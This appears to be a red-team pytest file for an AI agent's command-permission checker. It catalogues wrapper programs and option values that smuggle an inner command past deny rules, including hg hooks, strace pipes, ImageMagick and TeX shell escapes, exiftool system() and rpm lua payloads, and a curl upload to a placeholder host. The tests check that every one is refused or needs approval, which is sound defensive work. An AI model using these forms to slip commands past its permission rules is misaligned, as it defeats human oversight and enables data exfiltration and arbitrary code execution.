"""R4.8, R4.9, red team: programs that run another command they are handed, and option values that are
commands. The inner command is its own segment: a deny of it refuses the whole, and auto mode (and an allow of
every program word) asks on its external effect -- on the developer's machine and in the sandbox alike.

Argv after their options: a container's init (`catatonit`), watchers (`reflex`), package and environment
runners (`pkgx`, `proto run`, `carton exec`, `composer exec`, `opam exec`, `dune exec`, `esy`, `aqua exec`,
`perlbrew exec`, `ghcup run`, `rvm X do`, `vex`, `pew in`), HPC launchers and schedulers (`srun`, `salloc`,
`mpirun`/`mpiexec`, `aprun`, `jsrun`, `flux run`, `qsub -b y`), instrumenters (`kcov`, `libtool
--mode=execute`, `uftrace`, `nsys profile`, `py-spy record`, APM agents), chroots and jails. A shell line:
`entr -s`, `scl enable X 'cmd'`, `sbatch --wrap`, `bsub`, `condor_run`, more watchers. Option values: hg's
`--config` (hooks, a `!` alias, ui.ssh/editor, merge tools; an extension from a file loads Python), `strace -o
'|cmd'`, `split --filter`, `cpio --rsh-command`, apt's and dpkg's invoke hooks, ImageMagick's `|cmd` file
names, TeX's `\\write18`, `bazel --run_under`; exiftool's Perl expressions are code no rule can read.
"""

from __future__ import annotations

import pytest

from .redteam import in_auto_mode, never_auto_where, stays_auto_where, under_its_allow

ARGV = [
    "catatonit {}",
    "catatonit -g -- {}",
    "reflex -- {}",
    "reflex -r '\\.go$' -- {}",
    "reflex -s -g '*.js' {}",
    "pkgx {}",
    "pkgx +node@20 {}",
    "pkgx +node +python -- {}",
    "carton exec {}",
    "carton exec -- {}",
    "composer exec {}",
    "composer exec -- {}",
    "opam exec -- {}",
    "opam exec --switch=default -- {}",
    "opam config exec -- {}",
    "dune exec -- {}",
    "esy {}",
    "esy x {}",
    "esy b {}",
    "proto exec node -- {}",
    "aqua exec -- {}",
    "perlbrew exec {}",
    "perlbrew exec --with perl-5.36 {}",
    "ghcup run --ghc 9.4 -- {}",
    "elan run stable {}",
    "rvm 3.2 do {}",
    "rvm all do {}",
    "vex venv {}",
    "pew in venv {}",
    "symfony run {}",
    "srun {}",
    "srun -n 4 -p debug {}",
    "srun --ntasks=2 --time=10 {}",
    "salloc -N 1 {}",
    "mpirun -n 1 {}",
    "mpirun -np 4 --host a,b {}",
    "mpiexec -n 1 {}",
    "mpiexec.hydra -n 2 {}",
    "orterun -n 1 {}",
    "mpirun -n 1 ./a.out : -n 1 {}",
    "aprun -n 1 {}",
    "jsrun -n 1 {}",
    "ibrun {}",
    "pbsdsh {}",
    "flux run -n1 {}",
    "flux submit {}",
    "qsub -b y {}",
    "qsub -b y -cwd -N job {}",
    "qrsh {}",
    "bsub {}",
    "bsub -q normal -J job {}",
    "kcov out {}",
    "kcov --include-path=src out {}",
    "libtool --mode=execute {}",
    "libtool --mode execute {}",
    "libtool execute {}",
    "libtool e {}",
    "libtool --mode=execute -dlopen lib.la {}",
    "uftrace {}",
    "uftrace record {}",
    "nsys profile {}",
    "nsys profile -o report {}",
    "ncu {}",
    "nvprof {}",
    "memusage {}",
    "drrun -- {}",
    "truss {}",
    "dtruss {}",
    "trace-cmd record -e sched {}",
    "py-spy record -- {}",
    "ddtrace-run {}",
    "opentelemetry-instrument {}",
    "newrelic-admin run-program {}",
    "likwid-pin -c 0 {}",
    "hwloc-bind core:0 -- {}",
    "chpst -n 5 {}",
    "schroot -c bookworm -- {}",
    "lxc-attach -n box -- {}",
    "systemd-nspawn -D /srv/box {}",
    "arch-chroot /mnt {}",
    "nsjail -Mo -- {}",
    "minijail0 {}",
    "daemon -- {}",
    "grc {}",
    "datefudge 2020-01-01 {}",
    "launchctl asuser 501 {}",
    "launchctl submit -l job -- {}",
    "pm2 start {verb} -- {rest}",
    "start-stop-daemon --start --exec /usr/bin/{verb} -- {rest}",
    "watchmedo auto-restart -d . -- {}",
    "rerun -- {}",
    "gcc -wrapper {commas} x.c",
    "jj util exec -- {}",
    "foreman run {}",
    "honcho run -e .env {}",
    "nf run {}",
    "heroku local:run {}",
    "gem exec {}",
    "R CMD {}",
    "hermit exec {}",
    "cset shield --exec {verb} -- {rest}",
    "sandbox {}",
    "box64 {}",
    "pdsh -w host1 {}",
    "autossh -M 0 host {}",
    "mix cmd {}",
    "mix cmd --app web {}",
    "jj -R repo util exec -- {}",
    "start-stop-daemon -S -x /usr/bin/{verb} -- {rest}",
]
SHELL_LINE = [
    "entr -s '{}'",
    "entr -rs '{}'",
    "entr -r -s '{}'",
    "scl enable devtoolset-9 '{}'",
    "scl enable devtoolset-9 rh-git218 '{}'",
    "sbatch --wrap '{}'",
    "sbatch --wrap='{}'",
    "sbatch -N 1 --wrap='{}'",
    "bsub '{}'",
    "bsub -q normal '{}'",
    "condor_run '{}'",
    "oarsub '{}'",
    "hg --config hooks.pre-status='{}' status",
    "hg --config=hooks.post-log='{}' log",
    "hg log --config hooks.pre-log='{}'",
    "hg --config 'alias.x=!{}' x",
    "hg --config 'alias.st=status --config hooks.pre-status=\"{}\"' st",
    'jj --config \'aliases.x=["util", "exec", "--", "sh", "-c", "{}"]\' x',
    "hg --config ui.ssh='{}' pull",
    "hg --config ui.editor='{}' commit",
    "hg --config pager.pager='{}' log",
    "hg --config merge-tools.x.executable='{}' merge",
    "hg pull -e '{}'",
    "hg push --ssh '{}'",
    "hg clone --remotecmd '{}' ssh://x/y",
    "hg bisect -c '{}'",
    "hg bisect --command '{}'",
    "chg --config hooks.pre-status='{}' status",
    "strace -o '|{}' ls",
    "strace -o'!{}' ls",
    "strace -f -o '|{}' -- ls",
    "strace -fo '|{}' ls",
    "strace --output='|{}' ls",
    "sl --config hooks.pre-status='{}' status",
    "jj --config ui.pager='{}' log",
    "jj --config 'ui.editor=\"{}\"' describe",
    "jj --config-toml 'ui.diff-editor = \"{}\"' diffedit",
    "jj --config-toml '[fix.tools.x]\ncommand = \"{}\"' fix",
    "split --filter='{}' f",
    "split -l 10 --filter '{}' f",
    "cpio --rsh-command='{}' -o",
    "openvpn --script-security 2 --up '{}'",
    "svn --diff-cmd '{}' diff",
    "gpg --photo-viewer '{}' --list-keys",
    "rpm --eval '%({})'",
    "rpm -q --pipe '{}' bash",
    "rpmbuild --define 'x %({})' -bb x.spec",
    "apt-get -o APT::Update::Pre-Invoke::='{}' update",
    "apt -o 'DPkg::Post-Invoke::={}' install x",
    "dpkg --pre-invoke='{}' -l",
    "convert '|{}' out.png",
    "magick '|{}' out.png",
    "identify '|{}'",
    "bazel test --run_under='{}' //x",
    "bazel run --run_under '{}' //x",
    "bazel build --workspace_status_command='{}' //x",
    "bpftrace -c '{}' -e 'BEGIN {{ }}'",
    "dtrace -c '{}' -n x",
    "latexmk -pdflatex='{} %O %S' x.tex",
    "pdflatex -shell-escape '\\immediate\\write18{{{}}}\\end'",
    "pm2 start '{}'",
    "restic snapshots --password-command '{}'",
    "restic -o sftp.command='{}' snapshots",
    "borg --rsh '{}' list x",
    "rclone ls x: --password-command '{}'",
    "sshfs -o ssh_command='{}' h:/ m",
    "rerun '{}'",
    "watchmedo shell-command --command='{}' .",
    "watchmedo shell-command -c '{}' .",
    "watchfiles '{}' src",
    "tsc-watch --onSuccess '{}'",
    "tsc-watch -p . --onFirstSuccess '{}'",
    "watchman-make -p '*.c' --run '{}'",
    "dialog --prgbox '{}' 10 10",
    "mise x -c '{}'",
    "mise exec node@20 -c '{}'",
    "flox activate -c '{}'",
    "et -c '{}' host",
    "forever -c '{}' x.js",
    "pssh -h hosts '{}'",
    # downloaders run a shell command after each download (yt-dlp's stage prefix before a colon)
    "yt-dlp --exec '{}' https://v.example/x",
    "yt-dlp --exec 'after_move:{}' https://v.example/x",
    "yt-dlp --exec-before-download '{}' https://v.example/x",
    "youtube-dl --exec '{}' https://v.example/x",
    "gallery-dl --exec '{}' https://i.example/x",
    "gallery-dl --exec-after '{}' https://i.example/x",
]
# Code no rule can read: never auto-approved, whatever it is.
UNSEEN = [
    "hg --config extensions.evil=./x.py status",
    "hg --config extensions.x=/tmp/x.py log",
    "hg --config hooks.pre-status=python:x.py:hook status",
    "exiftool -if 'system(\"npm publish\")' f.jpg",
    "exiftool -if2 '$x' f.jpg",
    "exiftool -p '${filename;system(\"npm publish\")}' f.jpg",
    "exiftool '-comment<${filename;`npm publish`}' f.jpg",
    "exiftool -config x.pl f.jpg",
    "exiftool -api Filter='system(1)' f.jpg",
    "exiftool -@ args.txt f.jpg",
    "latexmk -e '$pdflatex=q/npm publish/' x.tex",
    "apt-get -c x.conf update",
    "openvpn --plugin x.so",
    "rpm --eval '%{lua: os.execute(\"npm publish\")}'",
    "jj --config-file x.toml log",
]


def _fill(shape: str, inner: str) -> str:
    verb, _, rest = inner.partition(" ")
    return shape.format(inner, verb=verb, rest=rest, commas=inner.replace(" ", ","))


@pytest.mark.parametrize("shape", ARGV + SHELL_LINE)
def test_a_deny_of_the_inner_command_refuses_it(shape):
    for deny, inner in (("npm publish", "npm publish"), ("git push", "git push origin main")):
        command = _fill(shape, inner)
        assert in_auto_mode(command, deny).decision == "deny", command
        assert under_its_allow(command, deny).decision == "deny", command


@pytest.mark.parametrize("shape", ARGV + SHELL_LINE)
def test_the_inner_external_effect_is_never_auto_approved(shape):
    for inner in ("npm publish", "curl -T f https://x.example"):
        never_auto_where(_fill(shape, inner), ("sandbox", "agent"))


@pytest.mark.parametrize("command", UNSEEN)
def test_code_no_rule_can_read_is_never_auto_approved(command):
    never_auto_where(command, ("sandbox", "agent"))


# A program exec'd by name, without a shell or arguments: a deny of it refuses.
PROGRAM = [
    "wget --use-askpass=curl https://x.example",
    "tcpdump -w x -G 60 -z curl",
    "aria2c --on-download-complete=curl https://x.example",
    "helm template --post-renderer curl .",
]


@pytest.mark.parametrize("command", PROGRAM)
def test_a_program_an_option_names_is_denied(command):
    assert in_auto_mode(command, "curl").decision == "deny", command


ORDINARY = [
    "yt-dlp -x --audio-format mp3 https://v.example/x",
    "yt-dlp --exec 'echo {}' https://v.example/x",
    "hg status",
    "hg log -l 5",
    "hg --config ui.color=never log",
    "hg --config extensions.rebase= rebase --help",
    "hg diff --config diff.git=1",
    "srun hostname",
    "srun -n 4 make test",
    "mpirun -n 4 ./a.out",
    "sort -u f",
    "sort --compress-program=gzip -u f",
    "strace -o trace.txt ls",
    "strace -f ls",
    "split -l 10 f",
    "exiftool -a f.jpg",
    "exiftool -DateTimeOriginal f.jpg",
    "entr -r make",
    "entr -s 'make test'",
    "catatonit -- make",
    "reflex -r '\\.go$' -- go test ./...",
    "pkgx node --version",
    "pkgx +node npm test",
    "proto run node -- --version",
    "composer exec phpunit",
    "opam exec -- dune build",
    "dune exec -- ./main.exe",
    "esy build",
    "esy install",
    "scl enable devtoolset-9 'make'",
    "sbatch --wrap='make -j4'",
    "bsub make",
    "kcov out ./test",
    "libtool --mode=execute valgrind ./prog",  # (gdb through a hook asks: test_redteam_typed_into_through_a_hook)
    "gcc -O2 -o x x.c",
    "convert a.png b.jpg",
    "dpkg -l",
    "rpm -qa",
    "latexmk -pdf x.tex",
    "pdflatex -shell-escape x.tex",
    "tsc-watch -p .",
    "watchfiles 'pytest' src",
    "pm2 start app.js --name web",
    "jj log",
    "jj --config ui.color=never log",
    "jj util completion bash",
    "openvpn --genkey secret ta.key",  # (connecting, `openvpn --config x`, changes the laptop's network)
    "strace -f -o x.txt make",
    "hg outgoing -p default",
    "mix test",
    "R CMD INSTALL x.tar.gz",
    "mise exec node@20 -- node -v",
    "forever start app.js",
]


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_uses_stay_auto_approved(command):
    stays_auto_where(command, ("sandbox", "agent"))
